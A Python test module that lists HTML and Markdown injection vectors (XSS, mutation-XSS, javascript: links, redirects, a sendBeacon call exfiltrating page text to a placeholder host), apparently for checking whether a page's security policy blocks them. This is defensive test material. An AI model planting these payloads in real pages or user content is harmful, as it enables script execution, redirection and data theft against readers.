"""Ways in which a hostile page would call another server, run a script or lead its reader away.

Each is raw HTML; `@out@` is where it calls, `@ran@` a script that says that it ran and calls too.
A page that no policy guards and that carries one of them is its control: the server hears it.
"""

from typing import NamedTuple

RAN = "document.documentElement.dataset.pwned = '@name@'; fetch('@out@/ran')"
# What not even a page without policy makes a browser ask, or no HTTP server hears; tried all the
# same, since another version may.
SILENT = {
    "chromium": frozenset({"dns-prefetch", "math-mutation", "svg-animate", "template"}),
    "firefox": frozenset({"dns-prefetch", "math-mutation", "onanimation", "ping", "svg-animate"}),
}


class Vector(NamedTuple):
    """One way out. `click` is what a reader may be led to click, on the page or its control."""

    name: str
    html: str
    click: str = ""

    def at(self, out: str) -> str:
        """Its HTML, calling `out`."""
        text = self.html.replace("@ran@", RAN)
        return text.replace("@out@", f"{out}/{self.name}").replace("@name@", self.name)


def _all() -> tuple[Vector, ...]:
    return (
        Vector("img", '<img src="@out@/a.png" alt="a">'),
        Vector("img-srcset", '<img srcset="@out@/a.png 1x" alt="a">'),
        Vector("img-unquoted", "<p>x</p><img src=@out@/a.png alt=a/x>"),
        Vector("picture", '<picture><source srcset="@out@/a.png"><img alt="a"></picture>'),
        Vector("video-poster", '<video poster="@out@/a.png"></video>'),
        Vector("video", '<video src="@out@/a.webm" autoplay muted></video>'),
        Vector("audio", '<audio src="@out@/a.ogg" preload="auto"></audio>'),
        Vector("track", '<video src="x"><track default src="@out@/a.vtt"></video>'
               '<audio><source src="@out@/b.ogg"></audio>'),
        Vector("style-attribute", '<p style="background: url(@out@/a.png)">x</p>'),
        Vector("style-url", "<style>p { background: url(@out@/a.png) }</style><p>x</p>"),
        Vector("style-import", '<style>@import "@out@/a.css";</style>'),
        Vector("style-font", "<style>@font-face { font-family: z; src: url(@out@/a.woff2) }"
               "p { font-family: z }</style><p>x</p>"),
        Vector("background", '<table background="@out@/a.png"><tr><td>x</td></tr></table>'),
        Vector("link-stylesheet", '<link rel="stylesheet" href="@out@/a.css">'),
        Vector("link-prefetch", '<link rel="prefetch" href="@out@/a">'),
        Vector("link-preload", '<link rel="preload" as="script" href="@out@/a.js">'),
        Vector("link-modulepreload", '<link rel="modulepreload" href="@out@/a.js">'),
        Vector("dns-prefetch", '<link rel="dns-prefetch" href="@out@">'
               '<link rel="preconnect" href="@out@">'),
        Vector("meta-refresh", '<meta http-equiv="refresh" content="0; url=@out@/a">'),
        Vector("iframe", '<iframe src="@out@/a"></iframe>'),
        Vector("iframe-srcdoc", '<iframe srcdoc="<img src=@out@/a.png><script>'
               'parent.document.documentElement.dataset.pwned = 1</script>"></iframe>'),
        Vector("frame", '<object data="@out@/a"></object>'),
        Vector("embed", '<embed src="@out@/a">'),
        Vector("form", '<form action="@out@/a"><input name="a" value="b">'
               "<button>Ouvrir</button></form>", "button"),
        Vector("form-input-image", '<form><input type="image" src="@out@/a.png" alt="a"></form>'),
        Vector("formaction", '<form id="z"></form>'
               '<input type="submit" form="z" formaction="@out@/a" value="x">', "input"),
        Vector("autofocus", '<input autofocus onfocus="@ran@">'),
        Vector("base", '<base href="@out@/"><img src="a.png" alt="a">'),
        Vector("ping", '<a href="#/q-centre/" ping="@out@/a">x</a>', "a"),
        Vector("target", '<a href="#x" onclick="@ran@" target="_blank">x</a>', "a"),
        Vector("script", "<script>@ran@</script>"),
        Vector("script-src", '<script src="@out@/a.js"></script>'),
        Vector("script-module", '<script type="module">@ran@</script>'),
        Vector("script-import", "<script>import('@out@/a.js')</script>"),
        Vector("beacon", "<script>navigator.sendBeacon('@out@/a', document.body.innerText)"
               "</script>"),
        Vector("event-source", "<script>new EventSource('@out@/a')</script>"),
        Vector("web-socket", "<script>new WebSocket('@out@/a'.replace('http', 'ws'))</script>"),
        Vector("window-open", "<script>location.href = '@out@/a'</script>"),
        Vector("worker", "<script>new Worker(URL.createObjectURL(new Blob(["
               "\"importScripts('@out@/a.js')\"])))</script>"),
        Vector("onerror", '<img src="#/q-centre/x.png" onerror="@ran@" alt="a">'),
        Vector("onload", '<svg onload="@ran@"></svg>'),
        Vector("ontoggle", '<details open ontoggle="@ran@"><summary>x</summary>y</details>'),
        Vector("onanimation", "<style>@keyframes z { from { left: 0 } }</style>"
               '<p style="animation: z 1s" onanimationstart="@ran@">x</p>'),
        Vector("href-javascript", '<a href="javascript:@ran@">x</a>', "a"),
        Vector("href-javascript-hidden", '<a href="&#1;java&Tab;script:@ran@">x</a>', "a"),
        Vector("svg-image", '<svg><image href="@out@/a.png" width="9" height="9"/></svg>'),
        Vector("svg-image-xlink", '<svg><image xlink:href="@out@/a.png" width="9" height="9"/>'
               "</svg>"),
        Vector("svg-feimage", '<svg width="9" height="9"><filter id="f">'
               '<feImage href="@out@/a.png"/></filter>'
               '<rect width="9" height="9" filter="url(#f)"/></svg>'),
        Vector("svg-script", "<svg><script>@ran@</script></svg>"),
        Vector("svg-script-href", '<svg><script href="@out@/a.js"></script></svg>'),
        Vector("svg-style", "<svg><style>rect { mask: url(@out@/a.svg#a) }</style>"
               '<rect width="9" height="9"/></svg>'),
        Vector("svg-foreign", '<svg><foreignObject width="9" height="9">'
               '<img src="@out@/a.png" alt="a"></foreignObject></svg>'),
        Vector("svg-animate", '<svg><a><text y="20">xxxxxxxx</text><animate attributeName="href" '
               'values="javascript:@ran@"/></a></svg>', "svg a"),
        Vector("math", '<math><mtext><img src="@out@/a.png" alt="a"></mtext></math>'),
        Vector("math-mutation", "<form><math><mtext></form><form><mglyph><style></math>"
               '<img src="@out@/a.png" onerror="@ran@">'),
        Vector("noscript", '<noscript><p title="</noscript><img src=@out@/a.png onerror=@ran@>">'
               '</noscript><p><img src="@out@/b.png" alt="b"></p>'),
        Vector("template", '<template><img src="@out@/a.png" alt="a"></template>'),
        Vector("shadow", '<div><template shadowrootmode="open"><img src="@out@/a.png" alt="a">'
               "</template></div>"),
        Vector("comment", '<!--><img src="@out@/a.png" onerror="@ran@">-->'),
        Vector("textarea", '<textarea><img title="</textarea>'
               '<img src=@out@/a.png onerror=@ran@>">'),
        Vector("plaintext", '<b><p><b><p><img src="@out@/a.png" alt="a"><plaintext>'),
    )  # fmt: skip


VECTORS = _all()
# Those that only Markdown's own signs write: nothing to try elsewhere.
MARKDOWN = (
    Vector("md-image", "![a](@out@/a.png)"),
    Vector("md-image-reference", '![a][r]\n\n[r]: @out@/a.png "x"'),
    Vector("md-image-protocol", "![a](//127.0.0.1/@out@/a.png)"),
    Vector("md-javascript", "[x](javascript:fetch('@out@'))", "a[href^=javascript]"),
    Vector("md-javascript-autolink", "<javascript:fetch('@out@')>", "a[href^=javascript]"),
    Vector("md-data", "[x](data:text/html,<script>fetch('@out@')</script>)", "a[href^=data]"),
    Vector("md-title", '[x](#a "\\" onmouseover=\\"@ran@")', "a[onmouseover]"),
    Vector("md-code", "```\n</code></pre><img src=@out@/a.png onerror=@ran@>\n```"),
    Vector("md-attribute-list", "# Un {onclick=@ran@ style=background:url(@out@/a.png)}"),
)
